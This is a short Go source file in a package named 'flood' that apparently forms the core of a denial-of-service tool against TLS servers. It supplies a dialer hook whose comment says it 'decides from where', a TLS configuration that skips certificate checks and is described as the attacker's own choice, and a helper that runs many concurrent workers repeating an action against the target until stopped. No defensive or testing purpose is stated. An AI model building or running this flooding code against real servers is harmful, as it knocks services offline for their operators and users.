package flood

import (
	"context"
	"crypto/tls"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

// Target is a server that speaks TLS.
type Target struct {
	// Dial connects to Address, which is host:port; it decides from where.
	Dial    func(ctx context.Context, network, address string) (net.Conn, error)
	Address string
}

// connect connects and shakes hands, for one of these protocols.
func (t Target) connect(ctx context.Context, protocols ...string) (*tls.Conn, error) {
	plain, err := t.Dial(ctx, "tcp", t.Address)
	if err != nil {
		return nil, err
	}
	connection := tls.Client(plain, stranger(protocols...))
	if err := connection.HandshakeContext(ctx); err != nil {
		_ = plain.Close()
		return nil, err
	}
	return connection, nil
}

// stranger is the TLS of one who shows nothing and trusts everybody: whom it talks to is an
// attacker's own choice.
func stranger(protocols ...string) *tls.Config {
	return &tls.Config{InsecureSkipVerify: true, NextProtos: protocols}
}

// again has so many do it again and again until ctx ends, each with a rest in between, and returns
// how often it was done. What they try where they are refused at once costs this machine, too.
func again(ctx context.Context, many int, between time.Duration, do func(context.Context)) int64 {
	var all sync.WaitGroup
	var done atomic.Int64
	for range many {
		all.Go(func() {
			for ctx.Err() == nil {
				done.Add(1)
				do(ctx)
				rest(ctx, between)
			}
		})
	}
	all.Wait()
	return done.Load()
}

func rest(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}
